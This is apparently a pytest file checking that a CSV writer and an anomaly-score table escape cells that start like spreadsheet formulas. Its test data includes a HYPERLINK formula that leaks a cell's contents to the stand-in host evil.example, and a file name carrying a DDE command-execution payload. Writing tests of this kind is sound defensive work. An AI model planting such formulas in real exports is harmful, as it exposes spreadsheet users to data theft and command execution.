"""engine.tables: CSV downloads a spreadsheet opens without running what another user named."""

from __future__ import annotations

import csv

from engine.anomaly.outputs import write_score_table
from engine.tables import write_csv


def test_text_that_starts_like_a_formula_is_shown_as_text_and_numbers_stay_numbers(tmp_path):
    path = tmp_path / "predictions.csv"
    write_csv(path, ["file", "class", "probability +cmd"],
              [["0.png", '=HYPERLINK("http://evil.example/?leak="&A2,"Open")', 0.66],
               ["-1.png", "@SUM(A1)", -0.5], ["a.png", "nut", 1.0]])
    rows = list(csv.reader(path.open()))
    assert rows[0] == ["file", "class", "probability +cmd"]  # not at the start: inert
    assert rows[1][1] == "'=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Open\")" and rows[1][2] == "0.66"
    assert rows[2] == ["'-1.png", "'@SUM(A1)", "-0.5"] and rows[3] == ["a.png", "nut", "1.0"]


def test_the_anomaly_score_table_neutralises_file_names(tmp_path):
    path = tmp_path / "scores.csv"
    write_score_table(path, [{"file": "+cmd|' /C calc'!A0.png", "score": 0.7, "verdict": "NG"}],
                      [{"file": "=1+1.png", "error": "not an image"}])
    rows = list(csv.DictReader(path.open()))
    assert [r["file"] for r in rows] == ["'+cmd|' /C calc'!A0.png", "'=1+1.png"] and rows[0]["score"] == "0.7"
